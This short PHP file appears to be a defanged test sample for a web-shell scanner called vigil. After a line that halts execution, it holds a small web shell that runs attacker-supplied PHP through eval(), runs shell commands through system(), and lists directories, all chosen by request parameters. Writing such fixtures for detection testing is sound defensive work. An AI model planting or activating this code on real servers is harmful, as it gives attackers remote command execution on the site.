<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
function myeval($src) { eval($src); }
function mycmd($x) { return system($x); }
function ls_dir($d) { return scandir($d); }
switch ($_GET['act']) {
case 'eval': myeval($_POST['php']); break;
case 'cmd': mycmd($_POST['cmd']); break;
case 'ls': print_r(ls_dir($_POST['d'])); break;
}
